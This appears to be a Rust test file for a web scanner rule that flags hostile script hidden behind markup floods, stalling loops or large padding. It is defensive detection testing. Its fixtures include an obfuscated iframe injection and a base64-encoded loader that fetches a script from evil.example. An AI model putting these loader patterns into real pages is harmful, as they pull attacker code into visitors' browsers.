//! Rule `page-cut`: limits are told, never kept quiet.

use crate::harness::{alarms, check, compared, inserted, scan_alone, worst};
use hinomi::model::{Confidence::*, Severity::*};
use hinomi::monitor::Form;

const RULE: &str = "page-cut";

fn told(name: &str) -> Option<(hinomi::model::Severity, hinomi::model::Confidence)> {
    worst(&compared(RULE, name), RULE)
}

#[test]
fn fixtures() {
    check(RULE);
}

#[test]
fn a_limit_asks_for_a_person() {
    assert_eq!(told("review-deep"), Some((Medium, Certain)));
    assert_eq!(told("harmless-nested"), None);
}

#[test]
fn disagreeing_charsets_are_information() {
    assert_eq!(told("harmless-charset"), Some((Info, Certain)));
}

#[test]
fn what_hides_behind_a_flood_is_never_quiet() {
    let hidden = "document.write(unescape('%3Ciframe src=//evil.example/%3E%3C/iframe%3E'))";
    let scripts: String = (0..600).map(|n| format!("<script>var a{n}=document.createElement('b')</script>")).collect();
    let actions: String = (0..200).map(|n| format!("fetch('/a/{n}');")).collect();
    for markup in [format!("{scripts}<script>{hidden}</script>"), format!("<script>{actions}{hidden}</script>")] {
        let found = inserted("hidden-frame", "</main>", &markup);
        assert_eq!(worst(&found, RULE), Some((Medium, Certain)), "{}: {found:#?}", markup.len());
        let page = format!("<!doctype html><title>x</title><body>{markup}");
        assert_eq!(worst(&scan_alone(&page, Form::Page).0, RULE), Some((Medium, Certain)));
    }
}

#[test]
fn what_decodes_and_was_not_followed_is_never_quiet() {
    let load = "var s=document.createElement('script');s.src=u;document.head.appendChild(s)";
    let stalls = format!("for(;;){{void 0}}var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYS5qcw==');{load}");
    let long = format!("eval(String.fromCharCode(118,97,114{}))", ",32,59".repeat(60_000));
    for script in [stalls, long] {
        let (found, verdict) = scan_alone(&script, Form::Script);
        assert_eq!(worst(&found, RULE), Some((Medium, Certain)), "{}: {found:#?}", script.len());
        assert!(verdict.needs_person());
    }
    let program = format!("var a=[];{}", "a.push({x:1,y:[2,3]});".repeat(30_000));
    assert_eq!(worst(&scan_alone(&program, Form::Script).0, RULE), None);
}

#[test]
fn what_is_put_before_it_hides_no_loader() {
    let load = "var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYS5qcw==');var s=document.createElement('script');s.src=u;document.head.appendChild(s);";
    for before in [format!("/*{}*/", "x".repeat(400_000)), "var i=0,x=0;while(i<100000){i++;x+=i%7}".to_owned()] {
        let (found, _) = scan_alone(&format!("{before}{load}"), Form::Script);
        assert!(found.iter().any(alarms), "{}: {found:#?}", before.len());
    }
}
